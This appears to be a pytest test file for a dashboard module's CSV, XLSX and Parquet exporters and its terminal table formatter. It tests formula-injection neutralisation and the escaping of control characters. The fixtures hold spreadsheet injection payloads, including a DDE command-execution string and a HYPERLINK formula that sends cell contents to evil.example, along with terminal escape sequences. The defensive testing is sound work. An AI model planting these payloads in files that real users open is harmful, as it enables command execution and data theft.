"""dashboards/exports.py: CSV/Parquet/XLSX writers; formula neutralisation; deterministic bytes; typed cells."""
from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal as D

import openpyxl
import polars as pl
import pytest

from dashboards import exports


def frame() -> pl.DataFrame:
    return pl.DataFrame({
        "name": ["=cmd|' /C calc'!A0", "ok & <b>", None, "-2+3", "@SUM(A1)", "+1", "\tTAB", "plain"],
        "n": [1, 2, None, 4, 5, 6, 7, 8],
        "x": [1.5, float("nan"), 2.25, None, 1e-7, -3.0, 0.0, float("inf")],
        "money": [D("1.50"), None, D("-3.25"), D("0"), D("12345.67"), D("-0.01"), D("2"), D("3")],
        "t": [dt.datetime(2026, 3, 1, 12), None, dt.datetime(1999, 1, 1), dt.datetime(2026, 3, 31, 23, 59, 59),
              dt.datetime(2026, 1, 1), None, None, None],
        "ok": [True, False, None, True, True, False, True, False],
    }, schema_overrides={"money": pl.Decimal(18, 2)})


def test_neutralise_prefixes_formula_starts_only():
    out = exports.neutralise(frame())["name"].to_list()
    assert out == ["'=cmd|' /C calc'!A0", "ok & <b>", None, "'-2+3", "'@SUM(A1)", "'+1", "'\tTAB", "plain"]


def test_csv_is_neutralised_and_parquet_keeps_values():
    text = exports.csv_bytes(frame()).decode()
    assert "\n'=cmd" in text and "\n=cmd" not in text and "'@SUM(A1)" in text
    assert "2026-03-01 12:00:00" in text
    back = pl.read_parquet(io.BytesIO(exports.parquet_bytes(frame())))
    assert back["name"][0] == "=cmd|' /C calc'!A0" and back["money"].dtype == pl.Decimal(18, 2)


def test_csv_writes_unknown_numbers_as_empty_cells_not_text():
    """A spreadsheet reads CSV's "NaN" or "inf" as text in a number column: unknown numbers are empty, as XLSX's."""
    rows = pl.read_csv(io.BytesIO(exports.csv_bytes(frame())))["x"].to_list()
    assert rows == [1.5, None, 2.25, None, 1e-7, -3.0, 0.0, None]
    assert "NaN" not in exports.csv_bytes(frame()).decode() and "inf" not in exports.csv_bytes(frame()).decode()


def test_xlsx_cells_keep_types_formats_and_positions(tmp_path):
    p = tmp_path / "t.xlsx"
    p.write_bytes(exports.xlsx_bytes({"data": frame(), "empty": frame().head(0)}, title="T & <x>",
                                     created=dt.datetime(2026, 4, 2, 8, 30)))
    wb = openpyxl.load_workbook(p)
    assert wb.sheetnames == ["data", "empty"] and wb.properties.created == dt.datetime(2026, 4, 2, 8, 30)
    rows = list(wb["data"].iter_rows(values_only=True))
    assert rows[0] == ("name", "n", "x", "money", "t", "ok")
    assert rows[1] == ("'=cmd|' /C calc'!A0", 1, 1.5, 1.5, dt.datetime(2026, 3, 1, 12), True)
    assert rows[2] == ("ok & <b>", 2, None, None, None, False)         # NaN and nulls are empty cells
    assert rows[3] == (None, None, 2.25, -3.25, dt.datetime(1999, 1, 1), None)
    assert rows[8][2] is None                                          # inf is not a number Excel can hold
    ws = wb["data"]
    assert ws["D2"].number_format == "#,##0.00" and ws["E2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert ws["A1"].font.b and ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:F9"
    assert list(wb["empty"].iter_rows(values_only=True)) == [("name", "n", "x", "money", "t", "ok")]


def test_xlsx_bytes_depend_only_on_content_and_created():
    a = exports.xlsx_bytes({"s": frame()}, created=dt.datetime(2026, 4, 2))
    assert a == exports.xlsx_bytes({"s": frame()}, created=dt.datetime(2026, 4, 2))
    assert a != exports.xlsx_bytes({"s": frame()}, created=dt.datetime(2026, 4, 3))
    stamps = {i.date_time for i in zipfile.ZipFile(io.BytesIO(a)).infolist()}
    assert stamps == {(2026, 4, 2, 0, 0, 0)}


def test_many_distinct_strings_are_written_inline_and_read_back(tmp_path):
    df = pl.DataFrame({"id": [f"job<{i}>&" for i in range(1000)], "v": list(range(1000))})
    p = tmp_path / "ids.xlsx"
    p.write_bytes(exports.xlsx_bytes({"ids": df}))
    rows = list(openpyxl.load_workbook(p)["ids"].iter_rows(values_only=True))
    assert rows[1] == ("job<0>&", 0) and rows[-1] == ("job<999>&", 999)


def test_a_table_longer_than_a_sheet_continues_on_the_next(monkeypatch, tmp_path):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 4)
    p = tmp_path / "long.xlsx"
    p.write_bytes(exports.xlsx_bytes({"jobs": pl.DataFrame({"i": list(range(7))})}))
    wb = openpyxl.load_workbook(p)
    assert wb.sheetnames == ["jobs", "jobs (2)", "jobs (3)"]
    got = [r[0] for name in wb.sheetnames for r in wb[name].iter_rows(min_row=2, values_only=True)]
    assert got == list(range(7))


def test_sheet_names_are_made_valid_and_unique():
    assert exports._sheet_names(["a/b", "x" * 40, "A/B", "by team"]) == ["a-b", "x" * 31, "A-B (2)", "by team"]


def test_write_tables_names_siblings_after_the_main_file(tmp_path):
    tables = {"summary": pl.DataFrame({"k": ["a"]}), "by team": pl.DataFrame({"t": ["x"]})}
    written = exports.write_tables(tables, tmp_path / "chargeback-2026-03.csv", main="by team")
    assert [p.name for p in written] == ["chargeback-2026-03.summary.csv", "chargeback-2026-03.csv"]
    assert (tmp_path / "chargeback-2026-03.csv").read_text() == "t\nx\n"
    with pytest.raises(ValueError, match="cannot tell the export format"):
        exports.write_tables(tables, tmp_path / "x.txt")


# ---------------------------------------------------------------- hostile cells, through every way out

#: text a spreadsheet would evaluate, or that hides a formula behind characters it strips or folds
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1,2)", "-2+3", "\x00=1+1", "\x0b+1",
           "\x1f\x00@x", "＝1+1", "＋1", "\u200b=1", "\u00a0-1", "\tTAB", "\rCR", "\x00\t1"]
#: text that is safe as it is (a formula character later on is only text)
SAFE = ["plain", "a=b", "1-2", "\x1b[2Jclear", "e-mail@x", ""]


def hostile() -> pl.DataFrame:
    n = len(HOSTILE) + len(SAFE)
    return pl.DataFrame({"name": HOSTILE + SAFE,
                         "amount": [D("-0.01")] * n, "x": [-0.01] * n, "jobs": list(range(-1, n - 1))},
                        schema_overrides={"amount": pl.Decimal(18, 2)})


def test_neutralise_looks_past_controls_and_folds_full_width_forms():
    out = exports.neutralise(hostile())
    assert out["name"].to_list() == ["'" + h for h in HOSTILE] + SAFE          # the original text stays after '
    assert out["amount"].dtype == pl.Decimal(18, 2) and out["x"].to_list()[0] == -0.01   # numbers are no text
    cats = exports.neutralise(pl.DataFrame({"c": ["=1", "ok"]}, schema={"c": pl.Categorical}))
    assert cats["c"].to_list() == ["'=1", "ok"]


def test_hostile_cells_in_csv_are_text_and_numbers_stay_numbers():
    import csv
    rows = list(csv.reader(io.StringIO(exports.csv_bytes(hostile()).decode("utf-8"), newline="")))
    assert rows[0] == ["name", "amount", "x", "jobs"]
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + h for h in HOSTILE] + SAFE
    assert {r[1] for r in rows[1:]} == {"-0.01"} and {r[2] for r in rows[1:]} == {"-0.01"}   # not '-0.01
    assert rows[1][3] == "-1"


def _sheet_text(v: str) -> str:
    """What an XLSX cell holds of ``v``: XML cannot carry C0 controls other than tab, LF and CR."""
    return "".join(c for c in v if c in "\t\n\r" or ord(c) >= 32)


def test_hostile_cells_in_xlsx_stay_neutralised_after_controls_are_dropped(tmp_path):
    p = tmp_path / "h.xlsx"
    p.write_bytes(exports.xlsx_bytes({"h": hostile()}, units={"amount": "USD"}))
    ws = openpyxl.load_workbook(p)["h"]
    cells = list(ws.iter_rows(min_row=2))
    names = [r[0].value or "" for r in cells]
    assert names == ["'" + _sheet_text(h) for h in HOSTILE] + [_sheet_text(s) for s in SAFE]
    assert "'=1+1" in names and "=1+1" not in names             # the NUL went, the ' stayed in front
    assert not any(_sheet_text(n).lstrip("\t\r\n \u200b\u00a0").startswith(("=", "+", "-", "@", "＝", "＋"))
                   for n in names)
    amount, x, jobs = cells[0][1], cells[0][2], cells[0][3]
    assert amount.value == -0.01 and amount.data_type == "n" and amount.number_format == '#,##0.00 "USD"'
    assert x.value == -0.01 and x.data_type == "n"
    assert jobs.value == -1 and isinstance(jobs.value, int)


def test_parquet_keeps_hostile_text_exact_and_numbers_typed():
    back = pl.read_parquet(io.BytesIO(exports.parquet_bytes(hostile())))
    assert back["name"].to_list() == HOSTILE + SAFE                # typed data: nothing evaluates it
    assert back.schema["amount"] == pl.Decimal(18, 2) and back["amount"][0] == D("-0.01")


def test_the_text_table_escapes_terminal_controls():
    from dashboards import terminal
    text = terminal.format_table(hostile())
    assert "\x1b" not in text and "\x00" not in text and "\x0b" not in text and "\r" not in text
    assert "\\x1b[2Jclear" in text and "\\x00=1+1" in text and "\\t" in text
    assert len(text.splitlines()) == 2 + hostile().height            # no cell starts a line of its own
    assert "＝1+1" in text and "-0.01" in text


def test_terminal_escape_keeps_newlines_only_in_multiline_text():
    from dashboards.terminal import escape
    s = "acct\x1b]0;title\x07\n\x9bnext\u202e"
    assert escape(s) == "acct\\x1b]0;title\\x07\\n\\x9bnext\\u202e"
    assert escape(s, multiline=True) == "acct\\x1b]0;title\\x07\n\\x9bnext\\u202e"
    assert escape("naïve – ok") == "naïve – ok"


def test_counts_print_as_integers_and_quantities_keep_decimals():
    from dashboards.terminal import format_table
    df = pl.DataFrame({"ngpus": [32.0, 4.0], "capacity_gpus": [32.0, None], "gpu_h": [480.0, 2.0],
                       "mean_jobs": [2.5, 1.0], "total": [D("19392.00"), D("-0.01")]},
                      schema_overrides={"total": pl.Decimal(18, 2)})
    lines = format_table(df).splitlines()
    assert lines[2].split() == ["32", "32", "480.00", "2.50", "19,392.00"]
    assert lines[3].split() == ["4", "2.00", "1.00", "-0.01"]


def test_units_give_numbers_a_currency_format_and_keep_decimal_scale(tmp_path):
    df = pl.DataFrame({"total": [D("1234.5")], "rate": [D("2.500000")], "gpus": [8], "x": [0.5]},
                      schema_overrides={"total": pl.Decimal(18, 2), "rate": pl.Decimal(18, 6)})
    p = tmp_path / "u.xlsx"
    p.write_bytes(exports.xlsx_bytes({"u": df}, units={"total": "EUR", "rate": "EUR/GPU-h", "gpus": "GPUs"}))
    ws = openpyxl.load_workbook(p)["u"]
    assert [c.number_format for c in ws[2]] == ['#,##0.00 "EUR"', '#,##0.000000 "EUR/GPU-h"', '#,##0 "GPUs"',
                                                "General"]
    assert [c.value for c in ws[2]] == [1234.5, 2.5, 8, 0.5]
    assert exports.number_format(2, 'E"U\\R') == '#,##0.00 "EUR"'    # a quote cannot end the literal early
